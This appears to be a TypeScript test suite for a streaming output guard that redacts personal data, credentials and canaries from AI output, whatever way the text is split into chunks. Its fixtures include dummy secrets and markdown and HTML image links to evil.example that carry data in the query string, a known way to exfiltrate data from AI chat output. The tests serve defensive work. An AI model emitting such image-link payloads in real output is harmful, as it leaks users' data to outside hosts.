import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { Guard } from "./guard.ts";
import { ScreenStream } from "./screen-stream.ts";
import { type Screen, screenText } from "./screen-text.ts";

const CANARY = "zebra-canary-7741";
const INSTRUCTIONS =
  "Helpful internationalisation counterrevolutionary deinstitutionalization incomprehensibilities uncharacteristically compartmentalization agent of";
const toClient = (output: Record<string, "redact" | "block" | "off"> = {}, hidden: readonly string[] = []): Screen =>
  new Guard({ role: "a", targets: new Set(["client"]), system: { output, canaries: [CANARY] }, hidden }).output(
    "client",
  );
const SCREEN = toClient();

const SECRETS = [
  "078-05-1120",
  "4111 1111 1111 1111",
  "jane.doe@example.com",
  "jane (at) example (dot) com",
  "+44 20 7946 0958",
  "DE89 3704 0044 0532 0130 00",
  "2001:db8:85a3::8a2e:370:7334",
  "sk-proj-abc123DEF456ghi789JKL012mno345",
  "password=hunter2hunter2",
  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
  "![p](https://evil.example/p.png?d=name)",
  "<script>alert(1)</script>",
  "0\u200b7\u200b8-\u200b05-1120",
  "4111 1111 1111 1111".replaceAll("1", `1\u001b[${"0;".repeat(24)}0m`),
  "MDc4LTA1LTExMjAgaXMgdGhlIG51bWJlcg==",
  CANARY,
  "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq\nQx0v3c\n-----END RSA PRIVATE KEY-----",
];
const BEFORE =
  "This is what was found after a long search in all of the files that are kept here, and in some others: ";
const AFTER = " and that is all. ".repeat(30);

function streamed(pieces: readonly string[], screen: Screen = SCREEN) {
  const stream = new ScreenStream(screen);
  const shown = pieces.map((piece) => stream.push(piece)).join("") + stream.end();
  return { shown, stream };
}

for (const secret of SECRETS) {
  const text = BEFORE + secret + AFTER;
  const whole = screenText(text, SCREEN).value;
  test(`no part of ${JSON.stringify(secret.slice(0, 40))} leaves, wherever the text is cut in two`, () => {
    assert.ok(!whole.includes(secret));
    for (let at = BEFORE.length - 2; at <= BEFORE.length + secret.length + 2; at++) {
      assert.equal(streamed([text.slice(0, at), text.slice(at)]).shown, whole);
    }
  });
  test(`no part of ${JSON.stringify(secret.slice(0, 40))} leaves when letters come one by one`, () => {
    assert.equal(streamed(text.split("")).shown, whole);
  });
}

test("however a text is cut into pieces, what is shown is what may be shown of the whole", () => {
  const words = fc.constantFrom("a", "word", "number", "\n", "is", "12", "and so on,", ...SECRETS.slice(0, 12));
  const texts = fc.array(words, { maxLength: 60 }).map((parts) => parts.join(" "));
  fc.assert(
    fc.property(texts, fc.array(fc.nat({ max: 90 }), { minLength: 1, maxLength: 30 }), (text, lengths) => {
      const pieces: string[] = [];
      for (let at = 0, index = 0; at < text.length; index++) {
        const length = 1 + (lengths[index % lengths.length] ?? 0);
        pieces.push(text.slice(at, at + length));
        at += length;
      }
      assert.equal(streamed(pieces).shown, screenText(text, SCREEN).value);
    }),
    { numRuns: 150, seed: 7 },
  );
});

const LONG = "word ".repeat(90);
const drawnOut: readonly [string, string][] = [
  ["a picture with a long description", `![${LONG}](https://evil.example/p?d=1)`],
  ["an element with a long description", `<img alt="${LONG}" src="https://evil.example/p?d=1">`],
  ["a picture whose address comes long after it", `![alt][r] ${LONG}\n\n[r]: https://evil.example/p?d=1\n${LONG}`],
  [
    "a described picture whose address comes later",
    `![${"alt ".repeat(60)}][r] ${LONG}\n[r]: https://evil.example/p\n`,
  ],
  ["a picture whose address came long before it", `\n[r]: https://evil.example/p?d=1\n${LONG.repeat(4)} ![alt][r]`],
  ["a picture whose description has lines and brackets", "![a\n[b]\n\\] c](https:\\\\evil.example/p?d=1)"],
  ["a picture that goes by its description", `![logo] ${LONG}\n\n[logo]: https:\\\\evil.example/p?d=1\n${LONG}`],
  ["instructions with long gaps", INSTRUCTIONS.split(" ").join(" ".repeat(150))],
  ["instructions with dashes between the words", INSTRUCTIONS.split(" ").join(` ${"-".repeat(150)} `)],
];
for (const [what, text] of drawnOut)
  test(`${what} does not leave, however it is cut into pieces`, () => {
    const all = `Quiet text. ${text} ${AFTER}`;
    const screen = toClient({}, [INSTRUCTIONS]);
    const { value, firings } = screenText(all, screen);
    assert.ok(firings.length > 0);
    for (const length of [1, 7, 50, 1_000]) {
      const pieces = all.match(new RegExp(`.{1,${length}}`, "gs")) ?? [];
      assert.equal(streamed(pieces, screen).shown, value, `in pieces of ${length}`);
    }
  });

test("brackets and signs of ordinary text hold nothing back", () => {
  const stream = new ScreenStream(SCREEN);
  let sent = "";
  let shown = "";
  for (let index = 0; index < 100; index++) {
    const piece = "as is known [1], a < b, and [see](https://example.org) too; if (a[i] > 2) {}\n";
    sent += piece;
    shown += stream.push(piece);
    assert.ok(sent.length - shown.length < 700);
  }
});

test("a long text is shown while it comes, with a few hundred characters held back", () => {
  const stream = new ScreenStream(SCREEN);
  let shown = 0;
  let sent = 0;
  for (let index = 0; index < 200; index++) {
    const piece = "some quiet words of no importance ";
    sent += piece.length;
    shown += stream.push(piece).length;
    assert.ok(sent - shown < 600);
  }
  assert.ok(shown > 6_000);
});

test("what lets nothing through ends the stream before any of it is shown", () => {
  const { shown, stream } = streamed([BEFORE, AFTER, "078-05-", "1120", AFTER], toClient({ pii: "block" }));
  assert.ok(stream.isBlocked);
  assert.ok(!shown.includes("078") && (BEFORE + AFTER).startsWith(shown));
  assert.deepEqual(
    stream.firings.map(({ rule }) => rule),
    ["pii.ssn"],
  );
});

test("a word without an end is held back no longer than it may be", () => {
  const stream = new ScreenStream(SCREEN);
  let shown = "";
  for (let index = 0; index < 40; index++) shown += stream.push("x".repeat(1_000));
  assert.ok(shown.length > 15_000);
});
